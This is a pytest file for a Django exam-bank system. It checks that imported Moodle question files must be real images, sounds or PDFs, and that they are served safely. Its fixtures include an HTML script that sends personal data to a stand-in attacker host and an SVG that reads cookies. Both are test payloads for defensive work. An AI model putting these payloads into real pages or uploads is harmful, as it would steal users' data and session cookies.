"""Files embedded in questions are served from our own site to listeners and administrators:
only images, sounds and PDFs get in (judged by their content, not their names), they are served
so that nothing in them runs, and question texts fetch no image from elsewhere."""

import base64

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from eacademy.core.errors import DomainError
from eacademy.core.roles import Role
from eacademy.exams import bank as bank_services
from eacademy.exams.models import Bank, Question, QuestionFile
from eacademy.exams.render import as_html

pytestmark = pytest.mark.django_db
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")
HTML = b"<html><body><script>fetch('/api/v1/people/').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="5"/></svg>'


def _moodle(name: str, content: bytes) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="truefalse">
    <name><text>Жәбірленуші</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>Look: <a href="@@PLUGINFILE@@/{name}">here</a> <img src="@@PLUGINFILE@@/{name}"></p>]]></text>
      <file name="{name}" encoding="base64">{base64.b64encode(content).decode()}</file>
    </questiontext>
    <answer fraction="100"><text>true</text></answer>
    <answer fraction="0"><text>false</text></answer>
  </question>
</quiz>""".encode()


@pytest.mark.parametrize(("name", "content"), [("x.html", HTML), ("x.svg", SVG), ("x.png", HTML), ("x.jpg", SVG)])
def test_active_content_is_refused_at_import_with_the_question_and_line(persona, name: str, content: bytes) -> None:
    bank = Bank.objects.create(name="hostile")
    with pytest.raises(DomainError) as refused:
        bank_services.bank_import(bank, _moodle(name, content), "moodle-xml", persona(Role.LECTURER))
    message = refused.value.messages[0]
    assert "line 7" in message and "“Жәбірленуші”" in message and f"“{name}”" in message and "not an image, a sound or a PDF" in message
    assert not Question.objects.filter(bank=bank).exists()


def test_the_import_page_refuses_an_html_file_with_422(client_as) -> None:
    bank = Bank.objects.create(name="hostile page")
    page = client_as(Role.LECTURER).post(f"/exams/banks/{bank.pk}/import/", {"file": SimpleUploadedFile("q.xml", _moodle("x.html", HTML))})
    assert page.status_code == 422 and "not an image, a sound or a PDF" in page.content.decode()


def test_an_image_is_served_so_that_nothing_in_it_runs(persona, client_as) -> None:
    bank = Bank.objects.create(name="pictures")
    bank_services.bank_import(bank, _moodle("x.png", PNG), "moodle-xml", persona(Role.LECTURER))
    file = QuestionFile.objects.get(version__question__bank=bank)
    response = client_as(Role.LECTURER).get(f"/exams/files/{file.version_id}/x.png")
    assert response.status_code == 200 and response.content == PNG
    assert response["Content-Type"] == "image/png" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == "inline" and "sandbox" in response["Content-Security-Policy"]


def test_a_file_stored_before_the_check_is_not_served_as_html(persona, client_as) -> None:
    bank = Bank.objects.create(name="old")
    bank_services.bank_import(bank, _moodle("x.png", PNG), "moodle-xml", persona(Role.LECTURER))
    file = QuestionFile.objects.get(version__question__bank=bank)
    QuestionFile.objects.filter(pk=file.pk).update(name="x.html", content=HTML)
    assert client_as(Role.ADMINISTRATOR).get(f"/exams/files/{file.version_id}/x.html").status_code == 404


def test_question_texts_fetch_no_image_from_elsewhere() -> None:
    html = as_html('<p>Q<img src="https://tracker.example/pixel.gif?who=1"><img src="//tracker.example/p.gif">'
                   '<img src="@@PLUGINFILE@@/a.png" alt="scheme"><a href="https://adilet.zan.kz/">Code</a></p>', "html", 7)
    assert "tracker.example" not in html
    assert '<img src="/exams/files/7/a.png" alt="scheme">' in html and 'href="https://adilet.zan.kz/"' in html
